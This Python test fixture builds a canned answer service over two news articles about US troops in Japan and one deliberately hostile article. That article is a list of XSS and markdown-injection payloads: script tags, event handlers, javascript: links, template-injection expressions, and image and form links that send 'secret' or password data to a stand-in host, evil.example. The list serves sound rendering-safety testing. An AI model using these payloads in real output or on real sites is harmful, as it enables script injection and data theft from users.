"""A small desk: canned answers over three articles, in both languages, one of them hostile."""

from __future__ import annotations

import asyncio
import threading
from collections.abc import AsyncIterator, Sequence
from dataclasses import replace
from datetime import date

from rag.errors import ModelError
from rag.records import Answer, AnswerEvent, Article, Citation, Evidence, Language, Sentence, Turn
from tests.factories import article, passage

HOSTILE = (
    '<script>window.pwned="script"</script>',
    '<img src=x onerror="window.pwned=1">',
    "![secret](http://evil.example/?q=secret)",
    "[click me](javascript:window.pwned=2)",
    "[click me](http://evil.example/)",
    "<http://evil.example/>",
    "http://evil.example/plain www.evil.example",
    "![ref][r]\n\n[r]: http://evil.example/x.png",
    '<a href="javascript:window.pwned=3">x</a>',
    '<iframe src="http://evil.example/"></iframe>',
    '<svg onload="window.pwned=4"><image href="http://evil.example/i.png"/></svg>',
    '<style>@import "http://evil.example/s.css"; body{display:none}</style>',
    '<div style="position:fixed;inset:0;background:url(http://evil.example/b.png)">x</div>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<base href="http://evil.example/">',
    '<form action="http://evil.example/"><input name="password"></form>',
    '<video src="http://evil.example/v.mp4" autoplay></video>',
    "${Object.assign(window,{pwned:5})} `${window.pwned=6}`",
    "{{constructor.constructor('window.pwned=7')()}} {{{value}}}",
    '"><script>window.pwned=8</script>',
    "' onmouseover='window.pwned=9",
    "&lt;script&gt;window.pwned=10&lt;/script&gt;",
    "```html\n<script>window.pwned=11</script>\n```",
    "```mermaid\ngraph TD; A-->B\n```",
    '<details open ontoggle="window.pwned=12">x</details>',
    "<math><mtext><img src=x onerror=window.pwned=13></mtext></math>",
    "$$\\href{javascript:window.pwned=14}{x}$$ \\(x\\)",
    "<!-- --!><img src=x onerror=window.pwned=15> -->",
    "\ue0000\ue001 \ue0005\ue001",
    "abc \u202e\u2066gnp.exe\u2069\u202c \u200f!",
    "\x00\x1b[31m\ud800 broken",
    '<a class="cite" href="#cite-0-9-00000000-eA" id="chat">1</a>',
)
"""Texts that want to be more than text."""

TALKS_AR = article(
    "أعلنت الولايات المتحدة مقرا جديدا لقواتها في اليابان.\n\n"
    "وتستضيف اليابان نحو 54 ألف جندي أمريكي، بحسب وكالة Reuters. 😀 وبلغت الكلفة $4.5bn.\n\n"
    + "وتتابع العواصم الثلاث تبادل بيانات الإنذار المبكر في الوقت الحقيقي. " * 30
    + "\n\nوعُقد الاجتماع في 28 يوليو 2024.",
    id="talks/ar 1",
    language="ar",
    title="مقر جديد للقوات الأمريكية في اليابان",
    published_at=date(2024, 7, 28),
    outlet="وكالة المدار",
)
TALKS_EN = article(
    "The United States announced a new headquarters for its forces in Japan.\n\n"
    "About 54,000 American troops are based there, the ministry said.",
    id="talks-en",
    title="A new headquarters for US forces in Japan",
    published_at=date(2024, 7, 28),
    outlet="Harbor Dispatch",
)
HOSTILE_ARTICLE = article(
    "\n\n".join(HOSTILE),
    id='"><script>',
    title=HOSTILE[0] + HOSTILE[1],
    outlet=HOSTILE[2] + HOSTILE[12],
)
ARTICLES = (TALKS_AR, TALKS_EN, HOSTILE_ARTICLE)

TROOPS_AR = "وتستضيف اليابان نحو 54 ألف جندي أمريكي، بحسب وكالة Reuters."
DATE_AR = "وعُقد الاجتماع في 28 يوليو 2024."
TROOPS_EN = "About 54,000 American troops are based there, the ministry said."


def cite(source: Article, quote: str, number: int = 1) -> Citation:
    """The citation of `quote`, which stands in the article."""
    start = source.text.index(quote)
    found = replace(passage(source.text), article=source)
    return Citation(Evidence(number, found), start, start + len(quote))


def answer(
    question: str,
    sentences: Sequence[Sentence],
    *,
    language: Language = "en",
    abstained: bool = False,
    reason: str | None = None,
) -> Answer:
    found = tuple(replace(passage(one.text), article=one) for one in (TALKS_AR, TALKS_EN))
    return Answer(question, language, abstained, reason, tuple(sentences), found, "canned")


class CannedDesk:
    """Answers by the words of the question: `slow` never ends, `fail` fails the first time,
    `nothing` abstains, `hostile` quotes the hostile article; Arabic gets Arabic, the rest English.
    """

    def __init__(self, *, articles: Sequence[Article] = ARTICLES, pace: float = 0.02) -> None:
        self.histories: list[Sequence[Turn]] = []
        self.left = threading.Event()
        self._articles = {one.id: one for one in articles}
        self._pace = pace
        self._failed: set[str] = set()

    def article(self, article_id: str) -> Article | None:
        return self._articles.get(article_id)

    def count(self) -> int:
        return len(self._articles)

    async def astream(
        self, question: str, *, history: Sequence[Turn] = ()
    ) -> AsyncIterator[AnswerEvent]:
        self.histories.append(tuple(history))
        if "fail" in question and question not in self._failed:
            self._failed.add(question)
            raise ModelError("the model did not answer", retryable=True)
        await asyncio.sleep(self._pace)
        yield {"passages": [replace(passage(one.text), article=one) for one in ARTICLES]}
        await asyncio.sleep(self._pace)
        if "nothing" in question:
            reason = "The passages that were found hold no answer to this question."
            yield {"answer": answer(question, (), abstained=True, reason=reason)}
            return
        sentences = _sentences(question)
        for sentence in sentences:
            for word in sentence.text.split(" "):
                yield {"text": word + " "}
                await asyncio.sleep(self._pace)
            yield {"text": "".join(f"[{one.number}]" for one in sentence.citations) + " "}
            yield {"sentences": [sentence]}
            if "slow" in question:
                await self._never_end()
        language: Language = "ar" if sentences[0].citations[0].article is TALKS_AR else "en"
        yield {"answer": answer(question, sentences, language=language)}

    async def _never_end(self) -> None:
        try:
            await asyncio.Event().wait()
        finally:
            self.left.set()


def _sentences(question: str) -> list[Sentence]:
    if "hostile" in question:
        return [Sentence(text, (cite(HOSTILE_ARTICLE, text),)) for text in HOSTILE if text.strip()]
    if any("\u0600" <= letter <= "\u06ff" for letter in question):
        return [
            Sentence("تستضيف اليابان 54 ألف جندي بكلفة $4.5bn.", (cite(TALKS_AR, TROOPS_AR),)),
            Sentence("وكان ذلك في يوليو.", (cite(TALKS_AR, DATE_AR), cite(TALKS_EN, TROOPS_EN, 2))),
        ]
    return [
        Sentence("About 54,000 troops are based in Japan.", (cite(TALKS_EN, TROOPS_EN),)),
        Sentence("The talks were in July.", (cite(TALKS_AR, DATE_AR, 2),)),
    ]
